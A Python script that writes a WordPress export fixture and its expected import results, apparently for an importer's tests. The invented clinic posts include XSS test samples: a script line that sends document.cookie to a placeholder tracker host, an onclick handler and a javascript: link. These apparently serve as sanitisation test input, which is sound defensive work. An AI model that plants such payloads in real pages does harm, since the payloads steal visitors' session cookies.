#!/usr/bin/env python3
"""Write the WordPress export used by the import tests, and what importing
it must give.

    scripts/make-wxr.py [OUT_DIR]     (default: server/tests/fixtures)

writes OUT_DIR/wordpress-export.xml (a WXR 1.2 file as WordPress's Tools →
Export writes it: authors, categories, tags, posts in every status,
Gutenberg block markup and classic HTML, attachments, a page, a menu item,
comments, CDATA, non-ASCII text) and OUT_DIR/wordpress-export.expected.json
(per post: title, slug, status, date, category, tags, author; the items that
must fail or be skipped, with a word of the reason). All text is invented
for these tests. Python 3 standard library only; the output is the same on
every run, so the committed files can be checked with `git diff`.
"""

import json
import sys
from pathlib import Path
from xml.sax.saxutils import escape

SITE = "https://old-clinic.example"

AUTHORS = [
    # login, email, display name, first, last
    ("mlopez", "maria@old-clinic.example", "Dr. María López", "María", "López"),
    ("jtaggart", "james@old-clinic.example", "James Taggart, PT", "James", "Taggart"),
    ("sam.okafor", "sam@old-clinic.example", "", "Sam", "Okafor"),
]

CATEGORIES = {
    "treatments": "Treatments",
    "wellness": "Wellness & Prevention",
    "uncategorized": "Uncategorized",
    "clinic-news": "Clinic News",
}

TAGS = {
    "back-pain": "Back Pain",
    "sleep": "Sleep",
    "physiotherapy": "Physiotherapy",
    "nutrition": "Nutrition",
    "ergonomics": "Ergonomics",
    "k%c3%a4ltetherapie": "Kältetherapie",
}

GUTENBERG = """<!-- wp:paragraph -->
<p>Ten minutes in the morning is enough to <strong>loosen a stiff back</strong>. Start slowly and <em>stop if it hurts</em>.</p>
<!-- /wp:paragraph -->

<!-- wp:heading -->
<h2 class="wp-block-heading">The five stretches</h2>
<!-- /wp:heading -->

<!-- wp:list {"ordered":true} -->
<ol><li>Knee to chest, 30 seconds each side</li><li>Cat and cow, ten slow rounds</li><li>Child's pose</li><li>Pelvic tilt<ul><li>lying down</li><li>standing against a wall</li></ul></li><li>Seated twist</li></ol>
<!-- /wp:list -->

<!-- wp:image {"id":201,"sizeSlug":"large"} -->
<figure class="wp-block-image size-large"><img src="https://old-clinic.example/wp-content/uploads/2024/02/stretch.jpg" alt="A patient doing a knee-to-chest stretch" class="wp-image-201"/><figcaption class="wp-element-caption">Knee to chest</figcaption></figure>
<!-- /wp:image -->

<!-- wp:paragraph -->
<p>More in <a href="https://old-clinic.example/2024/01/sleep-hygiene/">our sleep article</a>, and the array a[b[0]]> stays text.</p>
<!-- /wp:paragraph -->

<!-- wp:latest-posts /-->"""

CLASSIC = """Good sleep starts hours before bed.
Keep the room cool and dark.

<h3>Three habits</h3>
<ul>
<li>Same time to bed, <b>every</b> night</li>
<li>No screens for an hour</li>
<li>Caffeine only before noon</li>
</ul>
<script>document.location='https://tracker.example/?c='+document.cookie</script>
<p onclick="alert('x')">Questions? <a href="javascript:alert(1)">Ask us</a> at the front desk.</p>
[caption id="attachment_202" align="alignright" width="300"]<img src="https://old-clinic.example/wp-content/uploads/2024/01/bedroom.jpg" alt="A dark bedroom" width="300" height="200" /> A cool, dark room[/caption]"""

# Every item: (fields, expectation). Expectation kinds: post, failed, skipped, attachment, other.
ITEMS = [
    dict(
        id=101, title="Five stretches for a stiff lower back", name="five-stretches-lower-back",
        status="publish", type="post", author="jtaggart", date="2024-02-12 08:05:00", gmt="2024-02-12 16:05:00",
        cats=["treatments"], tags=["back-pain", "physiotherapy"], content=GUTENBERG,
        excerpt="Five gentle stretches for mornings.", comments=True,
    ),
    dict(
        id=102, title="Sleep hygiene: small habits, big changes", name="sleep-hygiene",
        status="publish", type="post", author="mlopez", date="2024-01-20 10:00:00", gmt="2024-01-20 18:00:00",
        cats=["uncategorized", "wellness"], tags=["sleep"], content=CLASSIC, excerpt="",
    ),
    dict(
        id=103, title="Kältetherapie – was hilft wirklich?", name="k%c3%a4ltetherapie-was-hilft",
        status="publish", type="post", author="mlopez", date="2023-11-03 09:30:00", gmt="2023-11-03 16:30:00",
        cats=["treatments"], tags=["k%c3%a4ltetherapie"],
        content="<!-- wp:paragraph -->\n<p>Kälte lindert Schwellungen – <em>nicht</em> jeden Schmerz.</p>\n<!-- /wp:paragraph -->",
        excerpt="",
    ),
    dict(
        id=104, title="Ice & heat: “which one, when?”", name="ice-or-heat",
        status="publish", type="post", author="sam.okafor", date="2023-06-01 07:00:00", gmt="2023-06-01 14:00:00",
        cats=["clinic-news"], tags=["nutrition", "ergonomics", "back-pain"], link=f"{SITE}/?p=104",
        content="<p>Ice for the first <strong>48 hours</strong>, heat after that.</p>", excerpt="<p>Ice first, then heat.</p>",
    ),
    dict(
        id=105, title="Knee braces compared", name="", status="draft", type="post", author="jtaggart",
        date="2024-03-01 12:00:00", gmt="0000-00-00 00:00:00", cats=["treatments"], tags=[],
        content="<p>Notes so far.</p>", excerpt="",
    ),
    dict(
        id=106, title="New office hours in spring", name="new-office-hours", status="pending", type="post",
        author="sam.okafor", date="2024-03-02 12:00:00", gmt="0000-00-00 00:00:00", cats=["clinic-news"], tags=[],
        content="<p>Waiting for review.</p>", excerpt="",
    ),
    dict(
        id=107, title="Our new Walnut Creek office opens", name="walnut-creek-office-opens", status="future",
        type="post", author="mlopez", date="2030-01-15 09:00:00", gmt="2030-01-15 17:00:00",
        cats=["clinic-news"], tags=[], content="<p>Opening in January.</p>", excerpt="",
    ),
    dict(
        id=108, title="Staff party photos", name="staff-party", status="private", type="post", author="mlopez",
        date="2023-12-20 18:00:00", gmt="2023-12-21 02:00:00", cats=["clinic-news"], tags=[],
        content="<p>Only for the team.</p>", excerpt="", expect=("skipped", "private"),
    ),
    dict(
        id=109, title="Five stretches (copy)", name="five-stretches-lower-back", status="publish", type="post",
        author="jtaggart", date="2024-02-13 08:05:00", gmt="2024-02-13 16:05:00", cats=["treatments"], tags=[],
        content="<p>A copy with the same slug.</p>", excerpt="", expect=("failed", "also used by"),
    ),
    dict(
        id=110, title="", name="no-title-here", status="publish", type="post", author="mlopez",
        date="2024-02-01 08:00:00", gmt="2024-02-01 16:00:00", cats=[], tags=[],
        content="<p>Someone forgot the title.</p>", excerpt="", expect=("failed", "no title"),
    ),
    dict(
        id=111, title="A post without a date", name="no-date", status="publish", type="post", author="mlopez",
        date="", gmt="", pubdate="", cats=[], tags=[], content="<p>When was this?</p>", excerpt="",
        expect=("failed", "no date"),
    ),
    dict(
        id=112, title="Old news", name="old-news", status="trash", type="post", author="mlopez",
        date="2022-01-01 08:00:00", gmt="2022-01-01 16:00:00", cats=[], tags=[], content="<p>Gone.</p>",
        excerpt="", expect=("skipped", "trash"),
    ),
    dict(
        id=201, title="stretch", name="stretch", status="inherit", type="attachment", author="jtaggart",
        date="2024-02-12 08:00:00", gmt="2024-02-12 16:00:00", cats=[], tags=[], content="", excerpt="",
        parent=101, url=f"{SITE}/wp-content/uploads/2024/02/stretch.jpg", expect=("attachment", ""),
    ),
    dict(
        id=202, title="bedroom", name="bedroom", status="inherit", type="attachment", author="mlopez",
        date="2024-01-20 09:00:00", gmt="2024-01-20 17:00:00", cats=[], tags=[], content="", excerpt="",
        parent=102, url=f"{SITE}/wp-content/uploads/2024/01/bedroom.jpg", expect=("attachment", ""),
    ),
    dict(
        id=301, title="About us", name="about", status="publish", type="page", author="mlopez",
        date="2022-05-01 08:00:00", gmt="2022-05-01 15:00:00", cats=[], tags=[], content="<p>Since 1998.</p>",
        excerpt="", expect=("skipped", "page"),
    ),
    dict(
        id=401, title="Home", name="home", status="publish", type="nav_menu_item", author="mlopez",
        date="2022-05-01 08:00:00", gmt="2022-05-01 15:00:00", cats=[], tags=[], content="", excerpt="",
        expect=("other", "nav_menu_item"),
    ),
]


def cdata(text):
    """CDATA as WordPress writes it: a "]]>" inside is split in two sections."""
    return "<![CDATA[" + text.replace("]]>", "]]]]><![CDATA[>") + "]]>"


def rfc2822(gmt):
    import datetime

    d = datetime.datetime.strptime(gmt, "%Y-%m-%d %H:%M:%S")
    return d.strftime("%a, %d %b %Y %H:%M:%S +0000")


def link_of(item):
    if "link" in item:
        return item["link"]
    if item["type"] == "attachment":
        return f"{SITE}/?attachment_id={item['id']}"
    if item["status"] in ("draft", "pending", "future", "private") or not item["name"]:
        return f"{SITE}/?p={item['id']}"
    if item["type"] == "page":
        return f"{SITE}/{item['name']}/"
    y, m = item["date"][:4], item["date"][5:7]
    return f"{SITE}/{y}/{m}/{item['name']}/"


def item_xml(item):
    out = ["\t<item>"]
    if item["title"]:
        out.append(f"\t\t<title><![CDATA[{item['title']}]]></title>")
    else:
        out.append("\t\t<title></title>")
    out.append(f"\t\t<link>{escape(link_of(item))}</link>")
    if "pubdate" in item:
        pub = item["pubdate"]
    elif item["gmt"][:4] == "0000":
        pub = "Mon, 30 Nov -0001 00:00:00 +0000"
    else:
        pub = rfc2822(item["gmt"])
    out.append(f"\t\t<pubDate>{pub}</pubDate>")
    out.append(f"\t\t<dc:creator>{cdata(item['author'])}</dc:creator>")
    out.append(f'\t\t<guid isPermaLink="false">{SITE}/?p={item["id"]}</guid>')
    out.append("\t\t<description></description>")
    out.append(f"\t\t<content:encoded>{cdata(item['content'])}</content:encoded>")
    out.append(f"\t\t<excerpt:encoded>{cdata(item['excerpt'])}</excerpt:encoded>")
    out.append(f"\t\t<wp:post_id>{item['id']}</wp:post_id>")
    if item["date"]:
        out.append(f"\t\t<wp:post_date>{cdata(item['date'])}</wp:post_date>")
        out.append(f"\t\t<wp:post_date_gmt>{cdata(item['gmt'])}</wp:post_date_gmt>")
        out.append(f"\t\t<wp:post_modified>{cdata(item['date'])}</wp:post_modified>")
        out.append(f"\t\t<wp:post_modified_gmt>{cdata(item['gmt'])}</wp:post_modified_gmt>")
    out.append("\t\t<wp:comment_status><![CDATA[open]]></wp:comment_status>")
    out.append("\t\t<wp:ping_status><![CDATA[closed]]></wp:ping_status>")
    out.append(f"\t\t<wp:post_name>{cdata(item['name'])}</wp:post_name>")
    out.append(f"\t\t<wp:status>{cdata(item['status'])}</wp:status>")
    out.append(f"\t\t<wp:post_parent>{item.get('parent', 0)}</wp:post_parent>")
    out.append("\t\t<wp:menu_order>0</wp:menu_order>")
    out.append(f"\t\t<wp:post_type>{cdata(item['type'])}</wp:post_type>")
    out.append("\t\t<wp:post_password><![CDATA[]]></wp:post_password>")
    out.append("\t\t<wp:is_sticky>0</wp:is_sticky>")
    if "url" in item:
        out.append(f"\t\t<wp:attachment_url>{cdata(item['url'])}</wp:attachment_url>")
    # WordPress stores term names HTML-escaped ("Wellness &amp; Prevention") and exports them so.
    for c in item["cats"]:
        out.append(f'\t\t<category domain="category" nicename="{c}">{cdata(escape(CATEGORIES[c]))}</category>')
    for t in item["tags"]:
        out.append(f'\t\t<category domain="post_tag" nicename="{t}">{cdata(escape(TAGS[t]))}</category>')
    out.append("\t\t<wp:postmeta>\n\t\t\t<wp:meta_key><![CDATA[_edit_last]]></wp:meta_key>\n\t\t\t<wp:meta_value><![CDATA[1]]></wp:meta_value>\n\t\t</wp:postmeta>")
    if item.get("comments"):
        out.append(
            "\t\t<wp:comment>\n\t\t\t<wp:comment_id>7</wp:comment_id>\n"
            "\t\t\t<wp:comment_author><![CDATA[A reader]]></wp:comment_author>\n"
            "\t\t\t<wp:comment_content><![CDATA[<title>Not the post's title</title> Thanks!]]></wp:comment_content>\n"
            "\t\t</wp:comment>"
        )
    out.append("\t</item>")
    return "\n".join(out)


def slugify(s):
    """The slugs Clinicpress makes from these names (ASCII transliteration)."""
    table = {"ä": "a", "ö": "o", "ü": "u", "é": "e", "á": "a", "í": "i", "ñ": "n", "–": "-", ".": "-"}
    out = "".join(table.get(c, c) for c in s.lower())
    out = "".join(c if c.isascii() and c.isalnum() else "-" for c in out)
    return "-".join(p for p in out.split("-") if p)


def unquote(s):
    from urllib.parse import unquote as uq

    return uq(s)


def expected():
    authors = {a[0]: (a[2] or f"{a[3]} {a[4]}") for a in AUTHORS}
    posts, failed, skipped, attachments, other = [], [], [], [], []
    for item in ITEMS:
        kind, word = item.get("expect", ("post", ""))
        if kind == "failed":
            failed.append({"wp_id": item["id"], "reason": word})
        elif kind == "skipped":
            skipped.append({"wp_id": item["id"], "reason": word})
        elif kind == "attachment":
            attachments.append(item["url"])
        elif kind == "other":
            other.append(word)
        else:
            status = {"publish": "published", "future": "scheduled"}.get(item["status"], "draft")
            date = None
            if status != "draft":
                date = item["gmt"].replace(" ", "T") + "+00:00"
            cats = [c for c in item["cats"] if c != "uncategorized"] or item["cats"]
            name = unquote(item["name"])
            posts.append(
                {
                    "wp_id": item["id"],
                    "title": item["title"],
                    "slug": slugify(name or item["title"]),
                    "status": status,
                    "published_at": date,
                    "category": {"slug": cats[0], "name": CATEGORIES[cats[0]]} if cats else None,
                    "tags": sorted(
                        ({"slug": slugify(unquote(t)), "name": TAGS[t]} for t in item["tags"]),
                        key=lambda t: t["slug"],
                    ),
                    "author": {"slug": slugify(item["author"]), "name": authors[item["author"]]},
                    "old_path": None if "?p=" in link_of(item) else link_of(item)[len(SITE):],
                }
            )
    return {
        "site": SITE,
        "posts": posts,
        "failed": failed,
        "skipped": skipped,
        "attachments": attachments,
        "other": other,
    }


def export():
    head = f"""<?xml version="1.0" encoding="UTF-8" ?>
<!-- This is a WordPress eXtended RSS file generated by WordPress as an export of your site. -->
<!-- generator="WordPress/6.5" created="2024-03-04 10:00" -->
<rss version="2.0"
\txmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"
\txmlns:content="http://purl.org/rss/1.0/modules/content/"
\txmlns:wfw="http://wellformedweb.org/CommentAPI/"
\txmlns:dc="http://purl.org/dc/elements/1.1/"
\txmlns:wp="http://wordpress.org/export/1.2/"
>

<channel>
\t<title>Old Clinic &amp; Spine Center</title>
\t<link>{SITE}</link>
\t<description>Articles from our team</description>
\t<pubDate>Mon, 04 Mar 2024 10:00:00 +0000</pubDate>
\t<language>en-US</language>
\t<wp:wxr_version>1.2</wp:wxr_version>
\t<wp:base_site_url>{SITE}</wp:base_site_url>
\t<wp:base_blog_url>{SITE}</wp:base_blog_url>
"""
    parts = [head]
    for i, (login, email, display, first, last) in enumerate(AUTHORS, start=1):
        parts.append(
            f"\t<wp:author><wp:author_id>{i}</wp:author_id><wp:author_login>{cdata(login)}</wp:author_login>"
            f"<wp:author_email>{cdata(email)}</wp:author_email><wp:author_display_name>{cdata(display)}</wp:author_display_name>"
            f"<wp:author_first_name>{cdata(first)}</wp:author_first_name><wp:author_last_name>{cdata(last)}</wp:author_last_name></wp:author>\n"
        )
    for i, (nice, name) in enumerate(CATEGORIES.items(), start=1):
        parts.append(
            f"\t<wp:category><wp:term_id>{i}</wp:term_id><wp:category_nicename>{cdata(nice)}</wp:category_nicename>"
            f"<wp:category_parent><![CDATA[]]></wp:category_parent><wp:cat_name>{cdata(escape(name))}</wp:cat_name></wp:category>\n"
        )
    for i, (nice, name) in enumerate(TAGS.items(), start=20):
        parts.append(
            f"\t<wp:tag><wp:term_id>{i}</wp:term_id><wp:tag_slug>{cdata(nice)}</wp:tag_slug><wp:tag_name>{cdata(escape(name))}</wp:tag_name></wp:tag>\n"
        )
    parts.append("\n\t<generator>https://wordpress.org/?v=6.5</generator>\n\n")
    parts.append("\n\n".join(item_xml(i) for i in ITEMS))
    parts.append("\n</channel>\n</rss>\n")
    return "".join(parts)


def main():
    out = Path(sys.argv[1]) if len(sys.argv) > 1 else Path(__file__).resolve().parent.parent / "server/tests/fixtures"
    out.mkdir(parents=True, exist_ok=True)
    (out / "wordpress-export.xml").write_text(export(), encoding="utf-8")
    (out / "wordpress-export.expected.json").write_text(
        json.dumps(expected(), ensure_ascii=False, indent=2) + "\n", encoding="utf-8"
    )
    print(f"wrote {out / 'wordpress-export.xml'} and wordpress-export.expected.json")


if __name__ == "__main__":
    main()
